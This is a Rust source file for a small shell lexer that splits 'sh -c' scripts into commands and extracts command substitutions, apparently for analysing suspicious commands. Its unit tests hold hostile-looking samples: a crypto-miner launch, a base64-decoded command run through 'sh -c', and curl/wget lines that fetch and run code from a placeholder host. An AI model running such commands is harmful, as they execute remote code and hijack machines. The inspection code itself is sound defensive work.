//! A small, forgiving POSIX-shell lexer: enough to split `sh -c` scripts into pipelines of
//! simple commands (quotes, escapes, `&&`, `||`, `;`, `|`, `&`, newlines, comments,
//! redirections, here-strings) and to pull out command substitutions (`$(...)`, backticks,
//! `<(...)`) for recursive analysis. It never fails: malformed input gives best-effort words.

/// One word of a simple command, quotes removed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct ShellWord {
    pub text: String,
    /// The word follows `<<<` (a here-string fed to the command's stdin).
    pub here_string: bool,
}

/// A simple command: its words in order.
pub(crate) type SimpleCommand = Vec<ShellWord>;
/// Commands joined by `|`.
pub(crate) type Pipeline = Vec<SimpleCommand>;

#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Script {
    pub pipelines: Vec<Pipeline>,
    /// Bodies of command substitutions, to be parsed as scripts of their own.
    pub nested: Vec<String>,
}

/// Most command substitutions kept per script (the rest are ignored).
const MAX_NESTED: usize = 32;

struct Lexer<'s> {
    b: &'s [u8],
    word: Vec<u8>,
    in_word: bool,
    here_next: bool,
    cmd: SimpleCommand,
    pipe: Pipeline,
    out: Script,
}

impl Lexer<'_> {
    fn finish_word(&mut self) {
        if self.in_word {
            let text = String::from_utf8_lossy(&self.word).into_owned();
            self.cmd.push(ShellWord {
                text,
                here_string: self.here_next,
            });
            self.here_next = false;
        }
        self.word.clear();
        self.in_word = false;
    }

    fn end_command(&mut self) {
        self.finish_word();
        if !self.cmd.is_empty() {
            self.pipe.push(std::mem::take(&mut self.cmd));
        }
    }

    fn end_pipeline(&mut self) {
        self.end_command();
        if !self.pipe.is_empty() {
            self.out.pipelines.push(std::mem::take(&mut self.pipe));
        }
    }

    fn push_nested(&mut self, start: usize, end: usize) {
        if self.out.nested.len() < MAX_NESTED && start < end {
            self.out
                .nested
                .push(String::from_utf8_lossy(&self.b[start..end]).into_owned());
        }
    }

    /// `i` is just after an opening `(`; returns the index of the matching `)` (or the end).
    fn matching_paren(&self, mut i: usize) -> usize {
        let mut depth = 1usize;
        while i < self.b.len() {
            match self.b[i] {
                b'\\' => i += 1,
                b'\'' => {
                    i += 1;
                    while i < self.b.len() && self.b[i] != b'\'' {
                        i += 1;
                    }
                }
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth == 0 {
                        return i;
                    }
                }
                _ => {}
            }
            i += 1;
        }
        self.b.len()
    }

    /// `i` is just after an opening backtick; returns the index of the closing one (or the end).
    fn closing_backtick(&self, mut i: usize) -> usize {
        while i < self.b.len() {
            match self.b[i] {
                b'\\' => i += 1,
                b'`' => return i,
                _ => {}
            }
            i += 1;
        }
        self.b.len()
    }

    /// Copies a `$(...)` or `` `...` `` starting at `i` into the current word, records its body,
    /// and returns the index after it. Returns `None` if there is none at `i`.
    fn substitution(&mut self, i: usize) -> Option<usize> {
        let b = self.b;
        if b[i] == b'$' && b.get(i + 1) == Some(&b'(') {
            let close = self.matching_paren(i + 2);
            self.push_nested(i + 2, close);
            let end = (close + 1).min(b.len());
            self.word.extend_from_slice(&b[i..end]);
            self.in_word = true;
            return Some(end);
        }
        if b[i] == b'`' {
            let close = self.closing_backtick(i + 1);
            self.push_nested(i + 1, close);
            let end = (close + 1).min(b.len());
            self.word.extend_from_slice(&b[i..end]);
            self.in_word = true;
            return Some(end);
        }
        None
    }

    fn run(mut self) -> Script {
        let b = self.b;
        let mut i = 0;
        while i < b.len() {
            let c = b[i];
            match c {
                b' ' | b'\t' | b'\r' => {
                    self.finish_word();
                    i += 1;
                }
                b'\n' => {
                    self.end_pipeline();
                    i += 1;
                }
                b'#' if !self.in_word => {
                    while i < b.len() && b[i] != b'\n' {
                        i += 1;
                    }
                }
                b'\'' => {
                    self.in_word = true;
                    i += 1;
                    while i < b.len() && b[i] != b'\'' {
                        self.word.push(b[i]);
                        i += 1;
                    }
                    i += 1;
                }
                b'"' => {
                    self.in_word = true;
                    i += 1;
                    while i < b.len() && b[i] != b'"' {
                        if b[i] == b'\\' && matches!(b.get(i + 1), Some(b'"' | b'\\' | b'$' | b'`'))
                        {
                            self.word.push(b[i + 1]);
                            i += 2;
                        } else if b[i] == b'\\' && b.get(i + 1) == Some(&b'\n') {
                            i += 2;
                        } else if let Some(next) = self.substitution(i) {
                            i = next;
                        } else {
                            self.word.push(b[i]);
                            i += 1;
                        }
                    }
                    i += 1;
                }
                b'\\' => {
                    match b.get(i + 1) {
                        Some(b'\n') => {}
                        Some(&n) => {
                            self.word.push(n);
                            self.in_word = true;
                        }
                        None => {}
                    }
                    i += 2;
                }
                b'$' | b'`' => {
                    if let Some(next) = self.substitution(i) {
                        i = next;
                    } else {
                        self.word.push(c);
                        self.in_word = true;
                        i += 1;
                    }
                }
                b';' => {
                    self.end_pipeline();
                    i += 1;
                }
                b'&' => match b.get(i + 1) {
                    Some(b'&') => {
                        self.end_pipeline();
                        i += 2;
                    }
                    Some(b'>') => {
                        self.finish_word();
                        i += 2;
                    }
                    _ => {
                        self.end_pipeline();
                        i += 1;
                    }
                },
                b'|' => {
                    if b.get(i + 1) == Some(&b'|') {
                        self.end_pipeline();
                        i += 2;
                    } else {
                        self.end_command();
                        i += 1;
                    }
                }
                b'(' | b')' if !self.in_word => {
                    self.end_pipeline();
                    i += 1;
                }
                b'<' => {
                    if b.get(i + 1) == Some(&b'(') {
                        // process substitution: <(cmd)
                        self.finish_word();
                        let close = self.matching_paren(i + 2);
                        self.push_nested(i + 2, close);
                        i = close + 1;
                    } else if b[i..].starts_with(b"<<<") {
                        self.finish_word();
                        self.here_next = true;
                        i += 3;
                    } else {
                        self.finish_word();
                        i += if b.get(i + 1) == Some(&b'<') { 2 } else { 1 };
                    }
                }
                b'>' => {
                    // `2>` / `1>`: the fd number is not a word
                    if self.in_word && self.word.iter().all(u8::is_ascii_digit) {
                        self.word.clear();
                        self.in_word = false;
                    }
                    self.finish_word();
                    i += 1;
                    let mut dup = false;
                    while i < b.len() && matches!(b[i], b'>' | b'&' | b'|') {
                        dup |= b[i] == b'&';
                        i += 1;
                    }
                    // `>&2`, `2>&1`, `>&-`: the target is a file descriptor, not a word
                    if dup {
                        while i < b.len() && (b[i].is_ascii_digit() || b[i] == b'-') {
                            i += 1;
                        }
                    }
                }
                _ => {
                    self.word.push(c);
                    self.in_word = true;
                    i += 1;
                }
            }
        }
        self.end_pipeline();
        self.out
    }
}

/// Split a shell script into pipelines of simple commands.
pub(crate) fn parse(script: &str) -> Script {
    Lexer {
        b: script.as_bytes(),
        word: Vec::new(),
        in_word: false,
        here_next: false,
        cmd: Vec::new(),
        pipe: Vec::new(),
        out: Script::default(),
    }
    .run()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(script: &Script) -> Vec<Vec<Vec<&str>>> {
        script
            .pipelines
            .iter()
            .map(|p| {
                p.iter()
                    .map(|c| c.iter().map(|w| w.text.as_str()).collect())
                    .collect()
            })
            .collect()
    }

    #[test]
    fn operators_split_commands_and_pipelines() {
        let s = parse(
            "apt-get update && apt-get install -y wget; ./t-rex -a kawpow | tee log & sleep 1 || true",
        );
        assert_eq!(
            words(&s),
            vec![
                vec![vec!["apt-get", "update"]],
                vec![vec!["apt-get", "install", "-y", "wget"]],
                vec![vec!["./t-rex", "-a", "kawpow"], vec!["tee", "log"]],
                vec![vec!["sleep", "1"]],
                vec![vec!["true"]],
            ]
        );
    }

    #[test]
    fn quotes_and_escapes() {
        let s = parse(
            r#"echo 'a b' "c \"d\" $HOME" e\ f # comment here
next"#,
        );
        assert_eq!(
            words(&s),
            vec![
                vec![vec!["echo", "a b", "c \"d\" $HOME", "e f"]],
                vec![vec!["next"]]
            ]
        );
    }

    #[test]
    fn substitutions_are_collected() {
        let s = parse(
            "sh -c \"$(echo aGk= | base64 -d)\"; x=`curl -s http://h/x`; bash <(wget -O- http://h/y)",
        );
        assert_eq!(
            s.nested,
            vec![
                "echo aGk= | base64 -d",
                "curl -s http://h/x",
                "wget -O- http://h/y"
            ]
        );
        assert_eq!(s.pipelines[0][0][2].text, "$(echo aGk= | base64 -d)");
    }

    #[test]
    fn redirections_and_here_strings() {
        let s = parse("base64 -d <<< aGVsbG8= > /tmp/x 2>/dev/null 2>&1 >&2");
        let cmd = &s.pipelines[0][0];
        let texts: Vec<&str> = cmd.iter().map(|w| w.text.as_str()).collect();
        assert_eq!(texts, ["base64", "-d", "aGVsbG8=", "/tmp/x", "/dev/null"]);
        assert!(cmd[2].here_string);
        assert!(!cmd[3].here_string);
    }

    #[test]
    fn malformed_input_does_not_panic() {
        for s in [
            "'unterminated",
            "\"open $(x",
            "`tick",
            "\\",
            "a |",
            "&&&;;|",
            "$(",
            "<(",
            "é ü 'ß'",
        ] {
            let _ = parse(s);
        }
        assert_eq!(words(&parse("é 'ü'")), vec![vec![vec!["é", "ü"]]]);
    }
}
